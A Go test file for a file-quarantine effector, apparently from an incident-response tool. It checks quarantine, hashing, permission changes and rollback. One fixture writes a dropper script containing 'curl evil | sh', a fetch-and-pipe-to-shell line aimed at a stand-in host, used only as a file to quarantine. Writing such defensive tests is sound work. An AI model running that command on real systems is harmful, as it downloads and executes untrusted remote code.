package effectors

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestQuarantineFile_ExecuteAndRollback(t *testing.T) {
	work := t.TempDir()
	qdir := filepath.Join(t.TempDir(), "quarantine")
	target := filepath.Join(work, "dropper.sh")
	require.NoError(t, os.WriteFile(target, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))

	q := NewQuarantineFile(qdir)
	data, _ := json.Marshal(QuarantineRequest{Path: target})
	before, after, err := q.Execute(context.Background(), data)
	require.NoError(t, err)

	_, err = os.Stat(target)
	assert.True(t, os.IsNotExist(err))

	var a quarantineAfter
	require.NoError(t, json.Unmarshal(after, &a))
	info, err := os.Stat(a.QuarantinePath)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o400), info.Mode().Perm())

	var b quarantineBefore
	require.NoError(t, json.Unmarshal(before, &b))
	assert.Len(t, b.SHA256, 64)
	assert.Equal(t, os.FileMode(0o755), b.Mode)

	require.NoError(t, q.Rollback(context.Background(), before, after))
	info, err = os.Stat(target)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o755), info.Mode().Perm())
}

func TestQuarantineFile_RollbackRefusesOccupiedPath(t *testing.T) {
	work := t.TempDir()
	target := filepath.Join(work, "payload.bin")
	require.NoError(t, os.WriteFile(target, []byte("x"), 0o644))

	q := NewQuarantineFile(filepath.Join(t.TempDir(), "q"))
	data, _ := json.Marshal(QuarantineRequest{Path: target})
	before, after, err := q.Execute(context.Background(), data)
	require.NoError(t, err)

	require.NoError(t, os.WriteFile(target, []byte("new"), 0o644))
	assert.ErrorContains(t, q.Rollback(context.Background(), before, after), "occupied")
}

func TestQuarantineFile_RollbackFinishesInterruptedRestore(t *testing.T) {
	work := t.TempDir()
	target := filepath.Join(work, "implant.so")
	require.NoError(t, os.WriteFile(target, []byte("ELF..."), 0o750))

	q := NewQuarantineFile(filepath.Join(t.TempDir(), "q"))
	data, _ := json.Marshal(QuarantineRequest{Path: target})
	before, after, err := q.Execute(context.Background(), data)
	require.NoError(t, err)

	// The file made it back but its mode was never restored.
	var a quarantineAfter
	require.NoError(t, json.Unmarshal(after, &a))
	require.NoError(t, os.Rename(a.QuarantinePath, target))

	require.NoError(t, q.Rollback(context.Background(), before, after))
	info, err := os.Stat(target)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o750), info.Mode().Perm())

	// Retrying again stays a no-op.
	assert.NoError(t, q.Rollback(context.Background(), before, after))
}

func TestQuarantineFile_RollbackRefusesForeignFileAfterRestore(t *testing.T) {
	work := t.TempDir()
	target := filepath.Join(work, "implant.so")
	require.NoError(t, os.WriteFile(target, []byte("ELF..."), 0o750))

	q := NewQuarantineFile(filepath.Join(t.TempDir(), "q"))
	data, _ := json.Marshal(QuarantineRequest{Path: target})
	before, after, err := q.Execute(context.Background(), data)
	require.NoError(t, err)

	var a quarantineAfter
	require.NoError(t, json.Unmarshal(after, &a))
	require.NoError(t, os.Remove(a.QuarantinePath))
	require.NoError(t, os.WriteFile(target, []byte("something else"), 0o644))

	assert.ErrorContains(t, q.Rollback(context.Background(), before, after), "occupied")
}

func TestQuarantineFile_Validate(t *testing.T) {
	q := NewQuarantineFile(t.TempDir())
	assert.Error(t, q.Validate(json.RawMessage(`{"path":"relative/file"}`)))
	assert.Error(t, q.Validate(json.RawMessage(`{}`)))
	assert.NoError(t, q.Validate(json.RawMessage(`{"path":"/var/tmp/file"}`)))

	_, _, err := q.Execute(context.Background(), json.RawMessage(`{"path":"/definitely/missing/file"}`))
	assert.Error(t, err)

	dir := t.TempDir()
	data, _ := json.Marshal(QuarantineRequest{Path: dir})
	_, _, err = q.Execute(context.Background(), data)
	assert.ErrorContains(t, err, "not a regular file")
}
